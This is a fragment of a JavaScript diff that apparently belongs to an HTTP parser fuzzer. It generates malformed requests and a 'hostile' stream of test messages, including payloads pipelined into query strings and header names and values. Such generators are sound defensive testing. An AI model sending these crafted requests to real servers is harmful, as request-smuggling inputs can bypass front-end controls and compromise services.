+  ({ any }) => ['GET / HTTP/1.1', host, 'X: y', '', ''].join(any(ends)),
+  ({ any }) => message('GET / HTTP/1.1', [host, any(lines), 'X: y']),
+  ({ any }) => message('GET / HTTP/1.1', [any(lines)]),
+  ({ any }) => message(`GET ${any(targets)} HTTP/1.1`, [host]),
+  ({ any }) => message(`GET ${any(bodied)}${any(versions)}`, [host]),
+  ({ any }) => message(`${any(methods)}${any([' ', '  ', '\t', ''])}${any(targets)} HTTP/1.1`,
+    [host]),
+  ({ pick, any }) => any(bytes) + (pick(2) ? '' : message('GET / HTTP/1.1', [host])),
+  ({ payload }) => message(`GET /?x=${pipelined(payload)} HTTP/1.1`, [host]),
+  ({ payload }) => message('GET / HTTP/1.1',
+    [host, `X-${pipelined(payload)}: ${pipelined(payload)}`]),
 ];
 
 /**
@@ -227,12 +323,12 @@ const broken = [
  */
 export function* hostile(count, seed = 1) {
   const pick = dice(seed);
+  const any = (list) => list[pick(list.length)];
   const names = Object.keys(kinds);
   for (let number = 0; number < count; number++) {
-    const payload = payloads[pick(payloads.length)];
-    const encode = encodings[pick(encodings.length)];
     const whole = pick(4) > 0;
-    const make = whole ? kinds[names[pick(names.length)]] : broken[pick(broken.length)];
-    yield { number, whole, bytes: make(pick, payload, encode) };
+    const make = whole ? kinds[any(names)] : any(broken);
+    const bytes_ = make({ pick, any, payload: any(payloads), encode: any(encodings) });
+    yield { number, whole, bytes: bytes_ };
   }
 }
